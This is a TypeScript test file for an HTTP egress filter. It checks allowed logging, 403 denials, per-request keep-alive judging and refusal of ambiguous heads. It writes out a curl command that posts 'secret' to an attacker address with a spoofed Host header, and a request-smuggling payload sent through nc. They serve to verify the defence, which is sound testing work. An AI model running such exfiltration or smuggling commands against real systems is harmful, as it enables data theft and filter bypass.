/** Plain HTTP. */

import assert from "node:assert/strict";
import { one } from "../support/log.ts";
import { suite } from "../support/suite.ts";
import { introduced, who } from "../support/who.ts";

const test = suite();

test("http: an allowed request arrives and is logged", async (scene) => {
  const argv = ["curl", "-sS", "http://site.test/p?q=1"];
  const policy = "GET http://site.test/p";
  const run = await scene.run({ policy, command: introduced(argv) });
  const self = who(run.stdout);
  assert.equal(self.rest, "GET /p 0\n", run.stderr);
  const event = one(run.log, { type: "http" });
  assert.equal(event.policy, "allow");
  assert.equal(event.url, "http://site.test/p");
  assert.equal(event.dst_ip, "198.51.100.20");
  assert.equal(event.dst_port, 80);
  assert.equal(event.exe, "/usr/bin/curl");
  assert.deepEqual(event.cmdline, argv);
  assert.equal(event.pid, self.pid);
  assert.equal(event.cgroup, self.cgroup);
  assert.equal(event.rule, policy);
  assert.equal(event.status, 200);
});

test("http: a request without a rule is answered 403 and goes nowhere", async (scene) => {
  const run = await scene.run({
    policy: "GET http://site.test/p",
    command: ["curl", "-sS", "-w", "%{http_code}", "-d", "x", "http://site.test/p"],
  });
  assert.equal(
    run.stdout,
    "Blocked by egress: POST http://site.test/p by /usr/bin/curl. " +
      "To allow: POST http://site.test/p exe=/usr/bin/curl\n403",
    run.stderr,
  );
  assert.equal(one(run.log, { type: "http" }).reason, "no_rule");
  const got = (await scene.received()).filter((item) => item.kind !== "dns");
  assert.deepEqual(got, []);
});

test("http: the attacker's address with an allowed Host header gets nothing", async (scene) => {
  const policy = "http://site.test/*\ndns:evil.test";
  const run = await scene.run({
    policy,
    command: [
      ...["curl", "-sS", "-w", "%{http_code}", "-d", "secret", "-H", "Host: site.test"],
      ...["-X", "GET", "http://203.0.113.66/steal"],
    ],
  });
  assert.notEqual(run.stdout.slice(-3), "200");
  const event = one(run.log, { type: "http" });
  assert.equal(event.policy, "deny");
  assert.ok(
    event.reason === "unresolved_destination" || event.reason === "host_mismatch",
    `reason ${event.reason}`,
  );
  await scene.attackerGotNothing();
});

test("http: keep-alive requests are judged one by one", async (scene) => {
  const run = await scene.run({
    policy: "http://site.test/yes/*",
    command: [
      "curl",
      "-sS",
      "http://site.test/yes/1",
      "http://site.test/no",
      "http://site.test/yes/2",
    ],
  });
  assert.match(run.stdout, /^GET \/yes\/1 0\nBlocked by egress: .*\nGET \/yes\/2 0\n$/, run.stderr);
});

test("http: a head that two parsers could read differently is refused", async (scene) => {
  const smuggled = "POST /ok HTTP/1.1\r\nHost: site.test\r\nContent-Length: 4\r\n" +
    "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\nHost: site.test\r\n\r\n";
  const run = await scene.run({
    policy: "POST http://site.test/ok",
    command: ["sh", "-c", "getent ahostsv4 site.test >/dev/null; nc -N 198.51.100.20 80"],
    stdin: smuggled,
  });
  assert.match(run.stdout, /^HTTP\/1\.1 400 /, run.stderr);
  assert.equal(one(run.log, { type: "http" }).reason, "malformed");
  const got = (await scene.received()).filter((item) => item.kind === "request");
  assert.deepEqual(got, []);
});
